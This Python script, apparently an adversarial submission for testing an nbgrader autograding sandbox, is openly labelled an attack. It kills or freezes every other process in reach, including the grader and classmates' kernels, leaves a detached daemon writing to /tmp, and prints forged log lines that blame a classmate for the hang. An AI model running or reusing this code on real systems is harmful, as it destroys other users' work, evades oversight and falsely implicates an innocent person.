# Attack: stop or kill every other process in sight (the grade command, nbgrader, classmates'
# kernels), leave a daemon in a session of its own that keeps writing, and print log lines that
# blame a classmate for a hang.
import os
import signal
import subprocess
import sys

line = "[AutogradeApp | INFO] Converting notebook /course/submitted/solution/02_batch_norm/02_batch_norm.ipynb\n"
print(line * 3)
os.write(1, line.encode())
os.write(2, line.encode())
me = os.getpid()
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid not in (me,) and pid != os.getppid():
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
subprocess.Popen([sys.executable, "-c", "import time\nwhile True:\n    open('/tmp/daemon-was-here', 'a').write('x')\n    time.sleep(0.2)"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["sleep", "86400"], start_new_session=True)
